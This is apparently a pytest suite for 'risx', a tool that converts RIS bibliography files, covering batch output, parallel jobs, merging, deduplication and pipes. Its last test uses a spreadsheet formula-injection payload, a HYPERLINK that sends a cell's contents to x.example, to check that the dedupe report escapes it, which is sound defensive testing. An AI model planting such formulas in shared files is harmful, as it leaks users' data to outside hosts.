"""Batch conversion as scripts and Makefiles use it: -o DIR/ with -j, --merge, --dedupe,
unchanged outputs left alone, per-output atomicity, pipes, -v summaries, progress."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

import risx
from conftest import corpus_path
from risx.dedupe import RULE_DOI, RULE_TITLE, dedupe
from risx.progress import Progress

GOOD = "TY  - JOUR\nTI  - First\nAU  - Doe, Jane\nPY  - 2020\nER  - \n"
WARNING_ONLY = "TY  - JOUR\nTI  - No end\n"
OVID = ("db-exports", "ovid-psycinfo__asreview.ris")
OVID_ZOTERO = ("db-exports", "ovid-psycinfo-via-zotero__asreview.ris")
PUBMED_ENDNOTE = ("db-exports", "pubmed-via-endnote__asreview.ris")
PUBMED_ZOTERO = ("db-exports", "pubmed-via-zotero__asreview.ris")
#: Real exports of several dialects, small enough to convert twice in a test.
BATCH = [
    "embase-elsevier__asreview.ris", "ovid-psycinfo__asreview.ris", "proquest-ptsdpubs__asreview.ris",
    "ebsco-academic-search-premier__synthesisr.ris", "scopus-2025__asysd.ris", "wos__asysd.ris",
    "lens__citesource.ris", "endnote-export-mixed__asysd.ris", "citavi-export__asreview.ris",
    "rayyan-export__asreview.ris", "faulty-year__asreview.ris",
]


def risx_run(*args: str | Path) -> subprocess.CompletedProcess[str]:
    """The real command in a subprocess (stderr is a pipe, so never a terminal)."""
    return subprocess.run([sys.executable, "-m", "risx", *map(str, args)], capture_output=True,
                          text=True, check=False)


def risx_bytes(*args: str | Path, input: bytes) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([sys.executable, "-m", "risx", *map(str, args)], input=input,
                          capture_output=True, check=False)


def copy_corpus(tmp_path: Path, *names: str) -> list[Path]:
    paths = []
    for name in names:
        target = tmp_path / name
        shutil.copyfile(corpus_path("db-exports", name), target)
        paths.append(target)
    return paths


# -o DIR/ and -j ------------------------------------------------------------------------------


def test_output_directory_ending_in_slash_is_created_with_its_parents(tmp_path: Path) -> None:
    """``-o out/new/`` makes the directory as ``mkdir -p`` would, then writes into it."""
    source = tmp_path / "refs.ris"
    source.write_text(GOOD, encoding="utf-8")
    target = tmp_path / "out" / "new"
    result = risx_run("convert", source, "-o", f"{target}/", "-t", "bibtex")
    assert result.returncode == 0, result.stderr
    assert "@article{" in (target / "refs.bib").read_text(encoding="utf-8")


def test_output_directory_that_cannot_be_created_is_io001(tmp_path: Path) -> None:
    source = tmp_path / "refs.ris"
    source.write_text(GOOD, encoding="utf-8")
    blocker = tmp_path / "a-file"
    blocker.write_text("not a directory")
    result = risx_run("convert", source, "-o", f"{blocker}/sub/", "-t", "bibtex")
    assert result.returncode == 1
    assert f"{blocker}/sub: error[IO001]: cannot create the output directory" in result.stderr
    assert "Traceback" not in result.stderr
    assert blocker.read_text() == "not a directory"


def test_jobs_give_identical_outputs_and_messages(tmp_path: Path) -> None:
    inputs = [corpus_path("db-exports", name) for name in BATCH]
    runs = []
    for jobs in ("1", "3"):
        out = tmp_path / f"j{jobs}"
        out.mkdir()
        result = risx_run("convert", *inputs, "-o", f"{out}/", "-t", "csl-json", "-j", jobs)
        assert result.returncode == 0, result.stderr
        runs.append((out, result.stderr))
    (one, err_one), (three, err_three) = runs
    names = sorted(p.name for p in one.iterdir())
    assert names == sorted(Path(n).stem + ".json" for n in BATCH)
    assert names == sorted(p.name for p in three.iterdir())
    for name in names:
        assert (one / name).read_bytes() == (three / name).read_bytes(), name
    assert err_one == err_three  # diagnostics in input order whatever finishes first
    assert "RIS" in err_one  # these exports do have warnings, so the comparison means something


def test_each_output_is_atomic_on_its_own_and_failures_are_named(tmp_path: Path) -> None:
    good, bad, broken = tmp_path / "good.ris", tmp_path / "warn.ris", tmp_path / "broken.ris"
    good.write_text(GOOD)
    bad.write_text(WARNING_ONLY)
    broken.write_bytes(bytes(range(256)) * 10)
    out = tmp_path / "out"
    out.mkdir()
    (out / "warn.json").write_text("previous")
    for jobs in ("1", "2"):
        result = risx_run("convert", "--strict", good, bad, broken, "-o", f"{out}/", "-t",
                          "csl-json", "-j", jobs)
        assert result.returncode == 1
        assert sorted(p.name for p in out.iterdir()) == ["good.json", "warn.json"]  # no temp files
        assert json.loads((out / "good.json").read_text())[0]["title"] == "First"
        assert (out / "warn.json").read_text() == "previous"  # the failed one is untouched
        assert f"{out}/warn.json: error[IO001]: not written: {bad} had 1 warning(s) under " \
               f"--strict" in result.stderr
        assert f"{out}/broken.json: error[IO001]: not written: {broken} had 1 error(s)" \
               in result.stderr
        assert "good.json" not in result.stderr
        assert "Traceback" not in result.stderr


def test_merge_with_a_directory_is_a_usage_error(tmp_path: Path) -> None:
    source = tmp_path / "a.ris"
    source.write_text(GOOD)
    result = risx_run("convert", "--merge", source, "-o", f"{tmp_path}/", "-t", "csl-json")
    assert result.returncode == 2
    assert "--merge writes one output" in result.stderr
    result = risx_run("convert", "--dedupe", source, "-o", f"{tmp_path}/", "-t", "csl-json")
    assert result.returncode == 2


# Unchanged outputs are not rewritten ---------------------------------------------------------


@pytest.mark.parametrize("mode", ["file", "dir"])
def test_unchanged_output_keeps_its_mtime(tmp_path: Path, mode: str) -> None:
    (source,) = copy_corpus(tmp_path, "scopus-2025__asysd.ris")
    target = tmp_path / "scopus-2025__asysd.bib"
    output = str(target) if mode == "file" else f"{tmp_path}/"
    args = ("convert", "-q", source, "-o", output, "-t", "bibtex")
    assert risx_run(*args).returncode == 0
    old = 1_000_000_000  # 2001: any rewrite would give a new time
    os.utime(target, (old, old))
    inode = target.stat().st_ino
    assert risx_run(*args).returncode == 0
    assert target.stat().st_mtime == old
    assert target.stat().st_ino == inode
    # A real change is written.
    source.write_text(source.read_text(encoding="utf-8-sig").replace("Taurine in Whole Blood", "Taurine in Blood"),
                      encoding="utf-8")
    assert risx_run(*args).returncode == 0
    assert target.stat().st_mtime != old
    assert "Taurine in Blood" in target.read_text()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([source.name, target.name])


# --merge and --dedupe on the corpus pairs ----------------------------------------------------


def test_merge_keeps_input_order_and_unique_keys(tmp_path: Path) -> None:
    first, second = corpus_path(*PUBMED_ZOTERO), corpus_path(*PUBMED_ZOTERO)
    target = tmp_path / "all.json"
    result = risx_run("convert", "-q", "--merge", first, second, "-o", target)
    assert result.returncode == 0, result.stderr
    items = json.loads(target.read_text())
    single = json.loads(risx_run("convert", "-q", first, "-t", "csl-json").stdout)
    assert len(items) == 2 * len(single) == 12
    assert [i["title"] for i in items] == [i["title"] for i in single] * 2
    assert len({i["id"] for i in items}) == 12


def test_dedupe_ovid_pair_finds_all_six_by_doi(tmp_path: Path) -> None:
    report = tmp_path / "dups.csv"
    target = tmp_path / "all.json"
    result = risx_run("convert", "--merge", "--dedupe", "--dedupe-report", report,
                      corpus_path(*OVID), corpus_path(*OVID_ZOTERO), "-o", target)
    assert result.returncode == 0, result.stderr
    assert ("risx: dedupe: 6 duplicate(s) removed (6 by DUP-R01); 0 pair(s) sent to review; "
            "6 record(s) kept") in result.stderr
    items = json.loads(target.read_text())
    assert len(items) == 6
    rows = list(csv.DictReader(report.open(encoding="utf-8")))
    assert len(rows) == 6
    assert {r["rule"] for r in rows} == {RULE_DOI}
    # The Ovid native records are the more complete ones: they are kept, Zotero's dropped.
    assert {Path(r["kept_file"]).name for r in rows} == {OVID[1]}
    assert {Path(r["removed_file"]).name for r in rows} == {OVID_ZOTERO[1]}
    assert [r["removed_index"] for r in rows] == ["1", "2", "3", "4", "5", "6"]
    assert all(r["kept_title"] == r["removed_title"] for r in rows)
    assert [i["DOI"].lower() for i in items] == [r["removed_doi"].lower() for r in rows]


def test_dedupe_pubmed_pair_holds_no_duplicates() -> None:
    # Checked by hand: the EndNote and Zotero PubMed files hold 12 different articles.
    result = risx_run("convert", "--dedupe", "-t", "csl-json", corpus_path(*PUBMED_ENDNOTE),
                      corpus_path(*PUBMED_ZOTERO))
    assert result.returncode == 0
    assert "dedupe: 0 duplicate(s) removed" in result.stderr
    assert len(json.loads(result.stdout)) == 12


def test_dedupe_by_title_year_author_when_a_doi_is_missing(tmp_path: Path) -> None:
    no_doi = tmp_path / "zotero-without-doi.ris"
    text = corpus_path(*OVID_ZOTERO).read_text(encoding="utf-8")
    no_doi.write_text("".join(line for line in text.splitlines(keepends=True)
                              if not line.startswith("DO  -")))
    result = risx_run("convert", "-t", "csl-json", "--dedupe", corpus_path(*OVID), no_doi)
    assert "dedupe: 6 duplicate(s) removed (6 by DUP-R02)" in result.stderr
    assert len(json.loads(result.stdout)) == 6
    # -q silences the summary.
    assert risx_run("convert", "-q", "-t", "csl-json", "--dedupe", corpus_path(*OVID),
                    no_doi).stderr == ""


def test_dedupe_fills_missing_fields_and_never_merges_different_dois() -> None:
    ovid = risx.read(corpus_path(*OVID))
    zotero = risx.read(corpus_path(*OVID_ZOTERO))
    assert zotero[0].abstract
    stripped = dataclasses.replace(ovid[0], abstract="")
    result = dedupe([stripped, zotero[0]])
    assert len(result.records) == 1
    kept = result.records[0]
    assert kept.source == ovid[0].source  # the more complete record is kept ...
    assert kept.abstract == zotero[0].abstract  # ... and its gap filled from the other
    assert result.by_rule()[RULE_DOI] == 1
    assert result.by_rule()[RULE_TITLE] == 0 and sum(result.by_rule().values()) == 1
    # Same title, year and author but another DOI: a different work (erratum, preprint).
    other = dataclasses.replace(zotero[0], doi="10.9999/another")
    assert len(dedupe([ovid[0], other]).records) == 2


# Pipes, exit codes, summaries, progress ------------------------------------------------------


def test_pipe_cat_convert_json_load() -> None:
    source = corpus_path("db-exports", "scopus-2025__asysd.ris")
    command = (f"cat '{source}' | {sys.executable} -m risx convert -q -t csl-json | "
               f"{sys.executable} -c 'import json, sys; print(len(json.load(sys.stdin)))'")
    result = subprocess.run(["bash", "-o", "pipefail", "-c", command], capture_output=True,
                            text=True, check=False)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "10"
    assert result.stderr == ""


def test_pipe_to_bibtex_and_exit_codes(tmp_path: Path) -> None:
    data = corpus_path("db-exports", "wos__asysd.ris").read_bytes()
    result = risx_bytes("convert", "-q", "-t", "bibtex", input=data)
    assert result.returncode == 0
    assert result.stdout.decode("utf-8").count("\n@") + 1 == 50
    binary = tmp_path / "x.ris"
    binary.write_bytes(bytes(range(256)) * 4)
    assert risx_run("convert", "-t", "csl-json", binary).returncode == 1
    assert risx_run("convert", "-t", "csl-json", tmp_path / "missing.ris").returncode == 2


def test_closed_pipe_is_quiet() -> None:
    source = corpus_path("db-exports", "zotero-export-wos-1000__asysd.ris")
    command = f"{sys.executable} -m risx convert -q -t csl-json '{source}' | head -c 100"
    result = subprocess.run(["bash", "-c", command], capture_output=True, text=True, check=False)
    assert len(result.stdout) == 100
    assert result.stderr == ""


def test_verbose_summary_per_input(tmp_path: Path) -> None:
    wos = corpus_path("db-exports", "wos__asysd.ris")
    scopus = corpus_path("db-exports", "scopus-2020__synthesisr.ris")
    result = risx_run("convert", "-v", "-q", wos, scopus, "-o", tmp_path / "all.json")
    assert result.returncode == 0
    # Each input's line, then what its exporter was recognised by and the rules that applied.
    every = result.stderr.splitlines()
    lines = [line for line in every if line.startswith("risx: ")]
    assert len(lines) == 2
    assert every[1:3] == [
        "  exporter Web of Science: N1 containing 'Times Cited in Web of Science' (in 50 of the "
        "first 50 records)",
        "  exporter rules: EXP-WOS-03 x42, EXP-WOS-04 x50, EXP-WOS-05 x50, EXP-WOS-06 x50, "
        "EXP-WOS-09 x1"]
    assert every[-1] == "  exporter Scopus: DB 'Scopus' (in 3 of the first 3 records)"
    assert lines[0].startswith(f"risx: {wos}: 50 read, 50 written, ")
    assert "encoding UTF-8 (BOM), dialect Web of Science, " in lines[0]
    assert lines[1].startswith(f"risx: {scopus}: 3 read, 3 written, 0 warning(s), 0 error(s), "
                               f"encoding UTF-8, dialect Scopus, ")
    assert lines[1].endswith(f"-> {tmp_path / 'all.json'} (written)")


def test_no_progress_when_stderr_is_not_a_terminal() -> None:
    source = corpus_path("db-exports", "zotero-export-wos-1000__asysd.ris")
    result = risx_run("convert", "-t", "csl-json", source, "--no-extra")
    assert "\r" not in result.stderr and "records/s" not in result.stderr


def test_progress_line_draws_and_erases() -> None:
    stream = io.StringIO()
    progress = Progress(stream, total_files=4, enabled=True, delay=0.0)
    progress.advance(files=1, records=250)
    assert "1/4 file(s), 250 record(s)" in stream.getvalue()
    progress.clear()
    assert stream.getvalue().endswith("\r\x1b[K")
    silent = io.StringIO()
    off = Progress(silent, total_files=4, enabled=False, delay=0.0)
    off.advance(files=4, records=10)
    off.clear()
    assert silent.getvalue() == ""


def test_version_and_help_examples() -> None:
    version = risx_run("--version")
    assert version.returncode == 0
    assert version.stdout.strip() == f"risx, version {risx.__version__}"
    help_text = risx_run("convert", "--help").stdout
    assert "Examples:" in help_text
    assert "-o out/ -t bibtex -j 4" in help_text
    assert "--max-value-length" in help_text and "--max-record-lines" in help_text


def test_dedupe_report_cells_cannot_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
    # Two copies of a record whose title a spreadsheet would take for a formula.
    record = ('TY  - JOUR\nTI  - =HYPERLINK("http://x.example/?"&A1,"Open")\nAU  - Doe, Jane\n'
              'PY  - 2020\nDO  - 10.1000/x\nER  - \n')
    inputs = [tmp_path / "a.ris", tmp_path / "b.ris"]
    for path in inputs:
        path.write_text(record, encoding="utf-8")
    report = tmp_path / "dups.csv"
    result = risx_run("convert", "-q", "--merge", "--dedupe", "--dedupe-report", report,
                      *inputs, "-o", tmp_path / "all.json")
    assert result.returncode == 0, result.stderr
    (row,) = list(csv.DictReader(report.open(encoding="utf-8")))
    assert row["kept_title"] == row["removed_title"] == "'" + '=HYPERLINK("http://x.example/?"&A1,"Open")'
    assert row["removed_doi"] == "10.1000/x"  # ordinary text is written as it is
    # The converted data itself keeps the title exactly.
    assert json.loads((tmp_path / "all.json").read_text())[0]["title"].startswith("=HYPERLINK(")
